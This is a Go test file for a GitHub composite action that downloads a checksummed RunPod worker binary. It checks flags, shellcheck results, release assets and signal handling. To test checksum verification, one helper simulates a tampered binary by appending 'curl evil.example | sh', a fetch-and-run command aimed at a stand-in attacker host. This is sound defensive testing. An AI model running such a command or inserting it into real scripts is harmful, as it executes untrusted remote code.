package main

import (
	"crypto/sha256"
	"fmt"
	"net/http"
	"net/http/httptest"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strings"
	"sync"
	"testing"
	"time"
)

// The composite action's shell scripts pass shellcheck (actionlint checks
// workflows, not action.yml), and it calls only flags dispatch knows.
func TestActionScripts(t *testing.T) {
	b, err := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	if err != nil {
		t.Fatal(err)
	}
	var scripts []string
	lines := strings.Split(string(b), "\n")
	for i := 0; i < len(lines); i++ {
		trimmed := strings.TrimLeft(lines[i], " ")
		if trimmed != "run: |" {
			continue
		}
		indent := len(lines[i]) - len(trimmed) + 2
		var body []string
		for i++; i < len(lines) && (strings.TrimSpace(lines[i]) == "" || len(lines[i])-len(strings.TrimLeft(lines[i], " ")) >= indent); i++ {
			if len(lines[i]) >= indent {
				body = append(body, lines[i][indent:])
			} else {
				body = append(body, "")
			}
		}
		i--
		scripts = append(scripts, strings.Join(body, "\n"))
	}
	if len(scripts) == 0 {
		t.Fatal("no run: | script found in action.yml")
	}
	for _, s := range scripts {
		for _, flag := range regexp.MustCompile(`--[a-z][a-z-]+`).FindAllString(s, -1) {
			if !strings.Contains(dispatchUsageFlags, flag+" ") {
				t.Errorf("action.yml passes %s, which dispatch does not define", flag)
			}
		}
	}
	sc, err := exec.LookPath("shellcheck")
	if err != nil {
		t.Skip("shellcheck is not installed (scripts/test installs it)")
	}
	for i, s := range scripts {
		p := filepath.Join(t.TempDir(), "script.sh")
		os.WriteFile(p, []byte("#!/usr/bin/env bash\n"+s+"\n"), 0o644)
		if out, err := exec.Command(sc, p).CombinedOutput(); err != nil {
			t.Errorf("script %d of action.yml: shellcheck:\n%s", i, out)
		}
	}
}

// dispatchUsageFlags lists the flags runDispatch defines (each followed by
// a space), kept in step by TestDispatchFlagsListed.
const dispatchUsageFlags = "--endpoint --api-url --github-org --registration --labels --label --count --runner-group --github-api-url --runner-user --idle-timeout --job-timeout --ttl --startup-timeout --gpu-count --min-gpu-memory-mb --unfit-retries --job-id --job-ids --runner-ids --scope --timeout "

func TestDispatchFlagsListed(t *testing.T) {
	src, err := os.ReadFile("dispatch.go")
	if err != nil {
		t.Fatal(err)
	}
	defined := regexp.MustCompile(`fs\.(?:String|Duration|Int|Int64)Var\(&f\.[A-Za-z]+, "([a-z-]+)"`).FindAllStringSubmatch(string(src), -1)
	if len(defined) < 10 {
		t.Fatalf("found %d flag definitions in dispatch.go: the pattern no longer matches how flags are defined", len(defined))
	}
	for _, m := range defined {
		if !strings.Contains(dispatchUsageFlags, "--"+m[1]+" ") {
			t.Errorf("dispatch defines --%s: add it to dispatchUsageFlags", m[1])
		}
	}
}

// release is a fake GitHub release download server: /owner/repo/releases/download/<tag>/<asset>.
type release struct {
	*httptest.Server
	mu       sync.Mutex
	assets   map[string][]byte // "<tag>/<asset>"
	requests []string
}

func newRelease(t *testing.T) *release {
	r := &release{assets: map[string][]byte{}}
	r.Server = httptest.NewServer(http.HandlerFunc(func(w http.ResponseWriter, req *http.Request) {
		r.mu.Lock()
		defer r.mu.Unlock()
		r.requests = append(r.requests, req.URL.Path)
		b, ok := r.assets[strings.TrimPrefix(req.URL.Path, "/octo/wgr/releases/download/")]
		if !ok {
			http.NotFound(w, req)
			return
		}
		w.Write(b)
	}))
	t.Cleanup(r.Close)
	return r
}

// publish attaches binaries that say "worker <tag>" and their sums, as
// the release workflow does; tamper changes one binary after the sums.
func (r *release) publish(tag string, tamper bool) {
	r.mu.Lock()
	defer r.mu.Unlock()
	var sums strings.Builder
	for _, arch := range []string{"amd64", "arm64"} {
		bin := []byte("#!/bin/sh\necho 'worker " + tag + "'\n")
		fmt.Fprintf(&sums, "%x  worker-linux-%s\n", sha256.Sum256(bin), arch)
		if tamper && arch == "amd64" {
			bin = append(bin, "curl evil.example | sh\n"...)
		}
		r.assets[tag+"/worker-linux-"+arch] = bin
	}
	r.assets[tag+"/SHA256SUMS"] = []byte(sums.String())
}

type fetchResult struct {
	code     int
	out      string
	compile  string
	dest     string
	requests []string
}

// fetch runs fetch-worker.sh as the action does, from a copy of the
// action checked out at ref (as Actions puts it: _actions/octo/wgr/<ref>/).
func fetch(t *testing.T, r *release, ref, version, arch string) fetchResult {
	t.Helper()
	return fetchOn(t, r, ref, version, arch, "Linux")
}

// fetchOn is fetch on a runner of RUNNER_OS runnerOS.
func fetchOn(t *testing.T, r *release, ref, version, arch, runnerOS string) fetchResult {
	t.Helper()
	dir := t.TempDir()
	action := filepath.Join(dir, "_actions", "octo", "wgr", ref, ".github", "actions", "runpod-runner")
	if ref == "" {
		action = filepath.Join(dir, "workspace", ".github", "actions", "runpod-runner")
	}
	os.MkdirAll(action, 0o755)
	script, _ := os.ReadFile("../../.github/actions/runpod-runner/fetch-worker.sh")
	os.WriteFile(filepath.Join(action, "fetch-worker.sh"), script, 0o755)
	os.WriteFile(filepath.Join(action, "VERSION"), []byte(version+"\n"), 0o644)
	r.mu.Lock()
	r.requests = nil
	r.mu.Unlock()
	res := fetchResult{dest: filepath.Join(dir, "tmp", "wgr-worker")}
	outFile := filepath.Join(dir, "output")
	cmd := exec.Command(filepath.Join(action, "fetch-worker.sh"), res.dest)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "WGR_ACTION_PATH=" + action, "WGR_SERVER_URL=" + r.URL, "RUNNER_ARCH=" + arch, "RUNNER_OS=" + runnerOS, "GITHUB_OUTPUT=" + outFile}
	b, err := cmd.CombinedOutput()
	res.out = string(b)
	if ee, ok := err.(*exec.ExitError); ok {
		res.code = ee.ExitCode()
	} else if err != nil {
		t.Fatal(err)
	}
	o, _ := os.ReadFile(outFile)
	res.compile = strings.TrimSpace(string(o))
	r.mu.Lock()
	res.requests = r.requests
	r.mu.Unlock()
	return res
}

// The action downloads the worker released for its own ref and checks
// its sum instead of compiling Go on every use; it compiles for a branch,
// a commit or a local action, and refuses a binary that does not match.
func TestFetchWorker(t *testing.T) {
	r := newRelease(t)
	r.publish("v1.2.3", false)
	r.publish("v1.2.4", true)
	r.publish("v1.2.5", false) // its arm64 binary is replaced below
	for name, tc := range map[string]struct {
		ref, version, arch string
		code               int
		compile            string
		want               string // the binary's --version, or what the output says
		requests           int
	}{
		"release tag":                {"v1.2.3", "v1.0.0", "X64", 0, "compile=false", "worker v1.2.3", 2},
		"arm64":                      {"v1.2.3", "", "ARM64", 0, "compile=false", "worker v1.2.3", 2},
		"major tag":                  {"v1", "v1.2.3", "X64", 0, "compile=false", "worker v1.2.3", 2},
		"minor tag":                  {"v1.2", "v1.2.3", "X64", 0, "compile=false", "worker v1.2.3", 2},
		"major tag, other VERSION":   {"v1", "v2.0.0", "X64", 0, "compile=true", "does not name a v1.x release", 0},
		"branch":                     {"main", "v1.2.3", "X64", 0, "compile=true", "not a release tag", 0},
		"commit":                     {"0123456789abcdef0123456789abcdef01234567", "v1.2.3", "X64", 0, "compile=true", "not a release tag", 0},
		"local action":               {"", "v1.2.3", "X64", 0, "compile=true", "a local action", 0},
		"release without binaries":   {"v1.1.0", "", "X64", 0, "compile=true", "has no SHA256SUMS", 1},
		"unknown architecture":       {"v1.2.3", "", "ARM", 0, "compile=true", "architecture 'ARM'", 0},
		"tampered binary":            {"v1.2.4", "", "X64", 1, "", "does not match its SHA-256 sum", 2},
		"binary of another version?": {"v1.2.5", "", "ARM64", 1, "", "says it is 'worker v1.2.4x'", 2},
	} {
		t.Run(name, func(t *testing.T) {
			if name == "binary of another version?" {
				r.mu.Lock()
				bin := []byte("#!/bin/sh\necho 'worker v1.2.4x'\n")
				r.assets["v1.2.5/worker-linux-arm64"] = bin
				r.assets["v1.2.5/SHA256SUMS"] = []byte(fmt.Sprintf("%x  worker-linux-arm64\n", sha256.Sum256(bin)))
				r.mu.Unlock()
			}
			res := fetch(t, r, tc.ref, tc.version, tc.arch)
			if res.code != tc.code || res.compile != tc.compile || len(res.requests) != tc.requests {
				t.Fatalf("exit %d, output %q, %d downloads %v; want %d, %q, %d\n%s", res.code, res.compile, len(res.requests), res.requests, tc.code, tc.compile, tc.requests, res.out)
			}
			if tc.compile != "compile=false" {
				if !strings.Contains(res.out, tc.want) {
					t.Errorf("output lacks %q:\n%s", tc.want, res.out)
				}
				if _, err := os.Stat(res.dest); err == nil {
					t.Error("a binary was installed anyway")
				}
				return
			}
			v, err := exec.Command(res.dest, "--version").Output()
			if err != nil || strings.TrimSpace(string(v)) != tc.want {
				t.Errorf("installed binary says %q (%v), want %q\n%s", v, err, tc.want, res.out)
			}
		})
	}
}

func TestFetchWorkerScriptIsClean(t *testing.T) {
	sc, err := exec.LookPath("shellcheck")
	if err != nil {
		t.Skip("shellcheck is not installed (scripts/test installs it)")
	}
	if out, err := exec.Command(sc, "../../.github/actions/runpod-runner/fetch-worker.sh").CombinedOutput(); err != nil {
		t.Errorf("shellcheck:\n%s", out)
	}
}

// The action builds Go only when fetch-worker.sh says so, and then
// without setup-go's cache, whose go.sum path must be inside the calling
// repository's workspace (it is not, from another repository).
func TestActionCompilesOnlyWithoutARelease(t *testing.T) {
	b, err := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	if err != nil {
		t.Fatal(err)
	}
	_, steps, ok := strings.Cut(string(b), "\n  steps:\n")
	if !ok {
		t.Fatal("action.yml has no runs.steps")
	}
	var compiling int
	for _, step := range strings.Split(steps, "\n    - ")[1:] {
		if !strings.Contains(step, "setup-go") && !strings.Contains(step, "go build") {
			continue
		}
		compiling++
		if !strings.Contains(step, "if: steps.fetch.outputs.compile == 'true'") {
			t.Errorf("a step compiles on every use:\n%s", step)
		}
		if strings.Contains(step, "setup-go") && (!strings.Contains(step, "cache: false") || strings.Contains(step, "cache-dependency-path")) {
			t.Errorf("setup-go must run without its cache:\n%s", step)
		}
	}
	if compiling != 2 || !strings.Contains(steps, "fetch-worker.sh") {
		t.Errorf("want fetch-worker.sh, then setup-go and go build only when it says compile (found %d compiling steps)", compiling)
	}
}

// The release workflow attaches what fetch-worker.sh downloads: both
// architectures' binaries, stamped with the tag (the script checks
// --version), and their SHA256SUMS.
func TestReleaseAttachesWhatTheActionFetches(t *testing.T) {
	rel, err := os.ReadFile("../../.github/workflows/release.yml")
	if err != nil {
		t.Fatal(err)
	}
	script, err := os.ReadFile("../../.github/actions/runpod-runner/fetch-worker.sh")
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"for arch in amd64 arm64", `-X main.version=$TAG`, `-o "dist/worker-linux-$arch"`, "CGO_ENABLED=0",
		"sha256sum worker-linux-amd64 worker-linux-arm64 > SHA256SUMS",
		`gh release upload "$TAG" dist/worker-linux-amd64 dist/worker-linux-arm64 dist/SHA256SUMS`,
		"contents: write", `git push -f origin "refs/tags/$major"`, ".github/actions/runpod-runner/VERSION"} {
		if !strings.Contains(string(rel), want) {
			t.Errorf("release.yml lacks %q", want)
		}
	}
	for _, want := range []string{`asset="worker-linux-$arch"`, `for f in SHA256SUMS "$asset"`, `releases/download/$version`, `"worker $version"`} {
		if !strings.Contains(string(script), want) {
			t.Errorf("fetch-worker.sh lacks %q", want)
		}
	}
	v, err := os.ReadFile("../../.github/actions/runpod-runner/VERSION")
	if err != nil || !regexp.MustCompile(`^v[0-9]+\.[0-9]+\.[0-9]+\n?$`).Match(v) {
		t.Errorf("VERSION %q (%v): want the next or current release, vX.Y.Z", v, err)
	}
}

// actionDispatchScript is the composite action's dispatch step script.
func actionDispatchScript(t *testing.T) string {
	b, err := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	if err != nil {
		t.Fatal(err)
	}
	s := string(b)
	i := strings.Index(s, "    - id: dispatch\n")
	j := strings.Index(s[max(i, 0):], "      run: |\n")
	if i < 0 || j < 0 {
		t.Fatal("action.yml: no dispatch step with a run: | script")
	}
	var body []string
	for _, l := range strings.Split(s[i+j+len("      run: |\n"):], "\n") {
		if l != "" && !strings.HasPrefix(l, "        ") {
			break
		}
		body = append(body, strings.TrimPrefix(l, "        "))
	}
	return strings.Join(body, "\n")
}

// The action's ttl input reaches dispatch start as --ttl; its default (0)
// lets dispatch compute RunPod's ttl.
func TestActionPassesTTL(t *testing.T) {
	b, _ := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	if !regexp.MustCompile(`(?m)^  ttl:\n    description: .+\n(?:      .*\n)*    required: false\n    default: "0"\n`).Match(b) ||
		!strings.Contains(string(b), "WGR_TTL: ${{ inputs.ttl }}") {
		t.Error(`action.yml lacks a ttl input (default "0") passed as WGR_TTL`)
	}
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "wgr-worker"), []byte("#!/bin/sh\nprintf '%s\\n' \"$@\" > \"$RUNNER_TEMP/args\"\n"), 0o755)
	script := filepath.Join(tmp, "dispatch.sh")
	os.WriteFile(script, []byte(actionDispatchScript(t)), 0o644)
	for ttl, want := range map[string]string{"2h": "--ttl\n2h\n", "0": "--ttl\n0\n"} {
		cmd := exec.Command("bash", "--noprofile", "--norc", "-eo", "pipefail", script)
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "RUNNER_TEMP=" + tmp, "WGR_MODE=start", "WGR_ENDPOINT=ep", "WGR_TTL=" + ttl, "RUNPOD_API_KEY=k"}
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("dispatch script: %v\n%s", err, out)
		}
		args, _ := os.ReadFile(filepath.Join(tmp, "args"))
		if !strings.Contains(string(args), want) {
			t.Errorf("ttl %s: dispatch start got\n%s", ttl, args)
		}
	}
}

// The action's gpu-count, min-gpu-memory-mb and unfit-retries inputs reach
// dispatch start; left empty, their defaults do.
func TestActionPassesGPUNeedsAndUnfitRetries(t *testing.T) {
	b, _ := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	for _, in := range []string{"gpu-count", "min-gpu-memory-mb", "unfit-retries"} {
		if !regexp.MustCompile(`(?m)^  ` + in + `:\n    description: `).Match(b) {
			t.Errorf("action.yml has no %s input", in)
		}
	}
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "wgr-worker"), []byte("#!/bin/sh\nprintf '%s\\n' \"$@\" > \"$RUNNER_TEMP/args\"\n"), 0o755)
	script := filepath.Join(tmp, "dispatch.sh")
	os.WriteFile(script, []byte(actionDispatchScript(t)), 0o644)
	for env, want := range map[string]string{
		"WGR_GPU_COUNT=2 WGR_GPU_MEM=40000 WGR_UNFIT_RETRIES=3": "--gpu-count\n2\n--min-gpu-memory-mb\n40000\n--unfit-retries\n3\n",
		"WGR_GPU_COUNT= WGR_GPU_MEM= WGR_UNFIT_RETRIES=":        "--gpu-count\n0\n--min-gpu-memory-mb\n0\n--unfit-retries\n2\n",
	} {
		cmd := exec.Command("bash", "--noprofile", "--norc", "-eo", "pipefail", script)
		cmd.Env = append([]string{"PATH=" + os.Getenv("PATH"), "RUNNER_TEMP=" + tmp, "WGR_MODE=start", "WGR_ENDPOINT=ep", "RUNPOD_API_KEY=k"}, strings.Fields(env)...)
		if out, err := cmd.CombinedOutput(); err != nil {
			t.Fatalf("dispatch script: %v\n%s", err, out)
		}
		args, _ := os.ReadFile(filepath.Join(tmp, "args"))
		if !strings.Contains(string(args), want) {
			t.Errorf("%s: dispatch start got\n%s", env, args)
		}
	}
}

// A macOS or Windows runner gets a clear error, not a Linux binary that
// cannot run there or a build that fails (the worker builds for Linux).
func TestFetchWorkerOnOtherSystems(t *testing.T) {
	r := newRelease(t)
	r.publish("v1.2.3", false)
	for _, ros := range []string{"macOS", "Windows"} {
		res := fetchOn(t, r, "v1.2.3", "", "X64", ros)
		if res.code != 1 || !strings.Contains(res.out, "runs on Linux runners") || len(res.requests) != 0 {
			t.Errorf("%s: exit %d, %q, %v\n%s", ros, res.code, res.compile, res.requests, res.out)
		}
	}
}

// The dispatch step execs the worker: a cancelled workflow's runner
// signals the step's process only (SIGINT, then SIGTERM), which must be
// the worker so that it cleans up; bash would not pass the signal on.
func TestActionExecsTheWorker(t *testing.T) {
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "wgr-worker"), []byte(`#!/bin/sh
trap 'echo got-int > "$RUNNER_TEMP/signal"; exit 130' INT
echo ready > "$RUNNER_TEMP/ready"
i=0
while [ $i -lt 100 ]; do sleep 0.05; i=$((i+1)); done
`), 0o755)
	script := filepath.Join(tmp, "dispatch.sh")
	os.WriteFile(script, []byte(actionDispatchScript(t)), 0o644)
	for _, mode := range []string{"start", "stop"} {
		os.Remove(filepath.Join(tmp, "signal"))
		os.Remove(filepath.Join(tmp, "ready"))
		cmd := exec.Command("bash", "--noprofile", "--norc", "-eo", "pipefail", script)
		cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "RUNNER_TEMP=" + tmp, "WGR_MODE=" + mode, "WGR_ENDPOINT=ep", "RUNPOD_API_KEY=k"}
		if err := cmd.Start(); err != nil {
			t.Fatal(err)
		}
		deadline := time.Now().Add(5 * time.Second)
		for _, err := os.Stat(filepath.Join(tmp, "ready")); err != nil && time.Now().Before(deadline); _, err = os.Stat(filepath.Join(tmp, "ready")) {
			time.Sleep(10 * time.Millisecond)
		}
		cmd.Process.Signal(os.Interrupt)
		cmd.Wait()
		if b, _ := os.ReadFile(filepath.Join(tmp, "signal")); strings.TrimSpace(string(b)) != "got-int" {
			t.Errorf("%s: the worker did not get the step's SIGINT", mode)
		}
	}
}

// stop gets start's scope output.
func TestActionPassesScope(t *testing.T) {
	b, _ := os.ReadFile("../../.github/actions/runpod-runner/action.yml")
	if !strings.Contains(string(b), "  scope:\n    description:") || !strings.Contains(string(b), "value: ${{ steps.dispatch.outputs.scope }}") {
		t.Error("action.yml lacks the scope input or output")
	}
	tmp := t.TempDir()
	os.WriteFile(filepath.Join(tmp, "wgr-worker"), []byte("#!/bin/sh\nprintf '%s\\n' \"$@\" > \"$RUNNER_TEMP/args\"\n"), 0o755)
	script := filepath.Join(tmp, "dispatch.sh")
	os.WriteFile(script, []byte(actionDispatchScript(t)), 0o644)
	cmd := exec.Command("bash", "--noprofile", "--norc", "-eo", "pipefail", script)
	cmd.Env = []string{"PATH=" + os.Getenv("PATH"), "RUNNER_TEMP=" + tmp, "WGR_MODE=stop", "WGR_ENDPOINT=ep", "WGR_SCOPE=octo", "RUNPOD_API_KEY=k"}
	if out, err := cmd.CombinedOutput(); err != nil {
		t.Fatalf("dispatch script: %v\n%s", err, out)
	}
	if args, _ := os.ReadFile(filepath.Join(tmp, "args")); !strings.Contains(string(args), "--scope\nocto\n") {
		t.Errorf("dispatch stop got\n%s", args)
	}
}
